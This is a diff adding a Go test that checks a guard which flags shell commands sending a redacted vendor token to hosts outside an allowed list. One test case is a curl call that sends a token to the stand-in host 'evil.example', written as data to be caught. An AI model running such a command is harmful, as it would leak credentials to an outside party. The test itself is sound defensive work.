@@ -286,3 +286,27 @@ func TestNamedBindings(t *testing.T) {
 		}
 	}
 }
+
+func TestVendorHosts(t *testing.T) {
+	rules := []redact.Rule{{ID: "fake-vendor", Kind: "fake-vendor", Regex: `fkv_[a-z0-9]{24}`, Keywords: []string{"fkv_"}, Hosts: []string{"api.vendor.example", "vendor.example"}}}
+	red, err := redact.New(redact.Options{Rules: rules})
+	if err != nil {
+		t.Skipf("rule shape changed: %v", err)
+	}
+	tok := "fkv_" + hex.EncodeToString([]byte(fakeToken(t)))[:24]
+	_, fs := red.Redact([]byte("key " + tok))
+	if len(fs) != 1 {
+		t.Skipf("rule did not match: %d findings", len(fs))
+	}
+	_, iss, _ := red.Lookup(fs[0].Placeholder)
+	for _, tt := range []struct{ cmd, want string }{
+		{"curl https://api.vendor.example/v1 -H x", ""},
+		{"curl https://uploads.vendor.example/v1", ""},
+		{"curl https://evil.example/?t=x", "destination"},
+		{"echo x", ""},
+	} {
+		if got := VendorHosts.Check(red, iss, "Bash", []byte(tt.cmd)); got != tt.want {
+			t.Errorf("VendorHosts(%q) = %q, want %q", tt.cmd, got, tt.want)
+		}
+	}
+}
